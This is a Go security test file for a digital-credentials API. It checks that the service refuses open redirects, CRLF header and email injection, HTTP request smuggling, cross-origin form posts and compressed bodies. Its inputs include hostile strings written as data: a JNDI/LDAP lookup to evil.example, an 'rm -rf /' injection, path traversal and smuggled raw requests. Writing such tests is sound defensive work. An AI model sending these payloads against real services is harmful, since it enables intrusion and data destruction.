package api_test

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// Nothing in an address sends anybody away from here, or comes back as an
// address.
func TestNobodyIsSentElsewhere(t *testing.T) {
	w := newWorld(t)
	id := w.issue(1).ID
	paths := []string{"/", "/v/" + id, "/credentials/" + id, "/credentials/" + id + "/qr.png", "/credentials/" + id + "/qr.svg", "/achievements/healthy-city", "/issuers/city-school",
		"/v/" + id + "/", "/credentials/" + id + "/", "//evil.example/", "/\\evil.example", "/%2f%2fevil.example", "/v//evil.example/", "/v/..%2f..%2fevil.example", "/https://evil.example", "/static/../v/" + id}
	for _, path := range paths {
		for _, query := range []string{"", "?next=https://evil.example", "?url=//evil.example&text=https://evil.example&data=https://evil.example", "?redirect=%2F%2Fevil.example&returnTo=evil.example&lang=//evil.example"} {
			for _, accept := range []string{"text/html", "application/json"} {
				a := w.get(path+query, "Accept", accept, "X-Forwarded-Host", "evil.example", "X-Forwarded-Prefix", "//evil.example", "X-Original-URL", "//evil.example", "Referer", "https://evil.example/")
				if to := a.header.Get("Location"); to != "" && (!strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, "/\\")) {
					t.Errorf("%s%s: leads to %q", path, query, to)
				}
				if a.status >= 500 {
					t.Errorf("%s%s: %d", path, query, a.status)
				}
				if bytes.Contains(a.body, []byte(`"https://evil.example`)) || bytes.Contains(a.body, []byte(`"//evil.example`)) {
					t.Errorf("%s%s: the address comes back: %s", path, query, a.body)
				}
			}
		}
	}
}

// A name or address that breaks a line, or is a command to some reader, makes
// no header, no log line and no second recipient.
func TestTextsThatBreakLines(t *testing.T) {
	w := newWorld(t)
	before := w.store.count("")
	for name, body := range map[string]string{
		"a name of two lines":       strings.Replace(award(1), "Ana Mora 1", `Ana\r\nX-Evil: 1`, 1),
		"a name with NUL":           strings.Replace(award(1), "Ana Mora 1", `Ana\u0000`, 1),
		"a name with an escape":     strings.Replace(award(1), "Ana Mora 1", `Ana\u001b[2J`, 1),
		"an address of two lines":   strings.Replace(award(1), "ana.1@learner.example", `ana@learner.example\r\nBcc: eve@evil.example`, 1),
		"two addresses":             strings.Replace(award(1), "ana.1@learner.example", `ana@learner.example,eve@evil.example`, 1),
		"an address with a name":    strings.Replace(award(1), "ana.1@learner.example", `Ana <ana@learner.example>`, 1),
		"an address with a comment": strings.Replace(award(1), "ana.1@learner.example", `ana@learner.example (eve)`, 1),
		"an address with a tab":     strings.Replace(award(1), "ana.1@learner.example", `ana\t@learner.example`, 1),
	} {
		a := w.post("/v1/credentials", body)
		if a.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d %s", name, a.status, a.body)
		}
	}
	if after := w.store.count(""); after != before {
		t.Errorf("%d records before, %d after", before, after)
	}
	a := w.post("/v1/credentials", strings.Replace(award(2), "Ana Mora 2", `${jndi:ldap://evil.example/a} ../../x \"; rm -rf /`, 1)).want(t, http.StatusCreated)
	var b issued
	a.into(t, &b)
	for _, suffix := range []string{".json", ".jwt", ".png", ".svg"} {
		got := w.get("/credentials/"+b.ID+suffix).want(t, http.StatusOK)
		for name, values := range got.header {
			if v := strings.Join(values, " "); strings.Contains(v, "jndi") || strings.Contains(v, "..") || strings.ContainsAny(v, "\r\n") {
				t.Errorf("%s: %s: %q", suffix, name, v)
			}
		}
	}
	if log := w.log.String(); strings.Contains(log, "jndi") || strings.Contains(log, "X-Evil") || strings.Contains(log, "learner.example") {
		t.Error("a recipient's words are in the log")
	}
}

// raw sends bytes as they are and gives back the first status and all that is
// said before the connection is closed, or before there is silence for a second
// after an answer or where the service waits for more.
func (w *world) raw(text string, answered bool) (status int, said string) {
	w.t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.address, "http://"))
	if err != nil {
		w.t.Fatal(err)
	}
	defer conn.Close()
	_, _ = io.WriteString(conn, text)
	var all []byte
	for more, err := make([]byte, 1<<16), error(nil); err == nil; {
		_ = conn.SetReadDeadline(time.Now().Add(time.Second))
		if answered && len(all) == 0 {
			_ = conn.SetReadDeadline(time.Now().Add(time.Minute))
		}
		var n int
		n, err = conn.Read(more)
		all = append(all, more[:n]...)
	}
	if resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(all)), nil); err == nil {
		_ = resp.Body.Close()
		status = resp.StatusCode
	}
	return status, string(all)
}

// Requests whose end two readers would see in two places, and other bytes that
// are no HTTP, are refused, and the service goes on.
func TestRequestsThatAreNone(t *testing.T) {
	w := newWorld(t)
	host := "Host: " + strings.TrimPrefix(w.base, "http://") + "\r\n"
	post := "POST /v1/verify HTTP/1.1\r\n" + host + "Content-Type: application/json\r\n"
	var wait sync.WaitGroup
	smuggled := "GET /openapi.json HTTP/1.1\r\n" + host + "\r\n"
	for name, text := range map[string]string{
		"two lengths":                 post + "Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}" + smuggled,
		"two lengths in one":          post + "Content-Length: 2, 60\r\n\r\n{}" + smuggled,
		"a length with a sign":        post + "Content-Length: +2\r\n\r\n{}",
		"a length below zero":         post + "Content-Length: -2\r\n\r\n{}",
		"a length that is hex":        post + "Content-Length: 0x2\r\n\r\n{}",
		"an unknown coding":           post + "Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
		"two codings":                 post + "Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
		"a coding twice":              post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
		"a blank before the colon":    post + "Content-Length : 2\r\n\r\n{}",
		"a header that goes on":       post + "Content-Length: 2\r\n Transfer-Encoding: chunked\r\n\r\n{}\r\n",
		"a size that is no number":    post + "Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
		"a size beyond all":           post + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n{}\r\n0\r\n\r\n",
		"a chunk without its end":     post + "Transfer-Encoding: chunked\r\n\r\n2\r\n{}x\r\n0\r\n\r\n",
		"no host":                     "GET /openapi.json HTTP/1.1\r\n\r\n",
		"two hosts":                   "GET /openapi.json HTTP/1.1\r\n" + host + "Host: evil.example\r\n\r\n",
		"another host in the address": "GET http://evil.example/openapi.json HTTP/1.1\r\n" + host + "\r\n",
		"an address without host":     "GET http:///openapi.json HTTP/1.1\r\nHost: evil.example\r\n\r\n",
		"a tunnel":                    "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
		"NUL in the address":          "GET /v/\x00 HTTP/1.1\r\n" + host + "\r\n",
		"HTTP/2 without TLS":          "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
		"TLS":                         "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("x", 500),
		"HTTP/0.9":                    "GET /\r\n",
		"a method of signs":           "G@T / HTTP/1.1\r\n" + host + "\r\n",
		"nothing but lines":           strings.Repeat("\r\n", 1000),
	} {
		wait.Go(func() {
			status, said := w.raw(text, false)
			if status != 0 && (status < 400 || status >= 500) && status != http.StatusNotImplemented && status != http.StatusHTTPVersionNotSupported {
				t.Errorf("%s: %.300q", name, said)
			}
			if strings.Contains(said, "openapi") || strings.Contains(said, "evil.example") || strings.Count(said, "HTTP/1.1 ") > 1 {
				t.Errorf("%s: more than a refusal came back: %.300q", name, said)
			}
		})
	}
	wait.Wait()
	// A length beside chunks is passed over, and what is behind the chunks is not
	// looked at: the connection ends (RFC 9112 section 6.3).
	if status, said := w.raw(post+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"+smuggled, true); status != http.StatusOK || strings.Count(said, "HTTP/1.1 ") != 1 {
		t.Errorf("a length beside chunks: %.300q", said)
	}
	if status, said := w.raw("GET /healthz HTTP/1.1\r\n"+host+"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", true); status != http.StatusOK {
		t.Errorf("an upgrade to HTTP/2 is passed over: %.300q", said)
	}
	w.get("/healthz").want(t, http.StatusOK)
}

// Bodies that are packed are not unpacked: nothing here says that they may be.
func TestPackedBodies(t *testing.T) {
	w := newWorld(t)
	packed := "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\xab\x56\x02\x00\x00\x00\xff\xff"
	for _, path := range []string{"/v1/verify", "/v1/credentials", "/credentials/verify", "/credentials/issue", "/presentations/verify"} {
		for _, coding := range []string{"gzip", "deflate", "br", "identity, gzip"} {
			a := w.do(request{method: "POST", path: path, body: packed, token: w.all, header: map[string]string{"Content-Type": "application/json", "Content-Encoding": coding}})
			if a.status < 400 || a.status >= 500 {
				t.Errorf("%s as %s: %d %s", path, coding, a.status, a.body)
			}
		}
	}
}

// Forms of pages from elsewhere change nothing: a form of a browser is for
// looking at badges alone, and what issues takes no form, but for a list as a
// file, which comes with a token as everything else does.
func TestFormsFromElsewhere(t *testing.T) {
	w := newWorld(t)
	before := w.store.count("")
	for _, path := range []string{"/v1/credentials", "/v1/credentials/batch", "/credentials/issue", "/v1/rosters/uh-kit-2025", "/credentials/status"} {
		for _, contentType := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain;application/json", ""} {
			a := w.do(request{method: "POST", path: path, body: award(1), token: w.all, header: map[string]string{"Content-Type": contentType, "Origin": "https://evil.example", "Cookie": "token=" + url.QueryEscape(w.all)}})
			takesFiles := strings.HasPrefix(path, "/v1/rosters/") && strings.HasPrefix(contentType, "multipart/")
			if a.status != http.StatusUnsupportedMediaType && !(takesFiles && a.status == http.StatusBadRequest) {
				t.Errorf("%s as %q: %d %s", path, contentType, a.status, a.body)
			}
			if got := a.header.Get("Access-Control-Allow-Origin"); got != "" {
				t.Errorf("%s: allowed to %q", path, got)
			}
		}
		a := w.do(request{method: "POST", path: path, body: award(1), header: map[string]string{"Content-Type": "application/json", "Cookie": "token=" + url.QueryEscape(w.all) + "; session=" + url.QueryEscape(w.all)}})
		if a.status != http.StatusUnauthorized {
			t.Errorf("%s with a cookie: %d", path, a.status)
		}
	}
	if after := w.store.count(""); after != before {
		t.Errorf("%d records before, %d after", before, after)
	}
}

// What was issued stays what it was, whatever becomes of the achievement and
// the issuer's profile.
func TestIssuedBytesStay(t *testing.T) {
	w := newWorld(t)
	id := w.issue(1).ID
	forms := []string{".json", ".jwt"}
	before := map[string][]byte{}
	for _, form := range forms {
		before[form] = w.get("/credentials/"+id+form).want(t, http.StatusOK).body
	}
	w.put("/v1/issuers/city-school", `{"name":"Another School"}`, w.all).want(t, http.StatusOK)
	w.put("/v1/achievements/healthy-city", `{"issuer":"city-school","name":"Forged","description":"Forged.","criteria":"Nothing.","version":"9"}`, w.all).want(t, http.StatusOK)
	for _, form := range forms {
		if after := w.get("/credentials/"+id+form).want(t, http.StatusOK).body; !bytes.Equal(before[form], after) {
			t.Errorf("%s was %s and is %s", form, before[form], after)
		}
	}
	if a := w.do(request{method: "GET", path: "/v1/achievements/healthy-city", token: w.all}).want(t, http.StatusOK); !bytes.Contains(a.body, []byte("Forged")) {
		t.Errorf("the achievement was not changed: %s", a.body)
	}
}
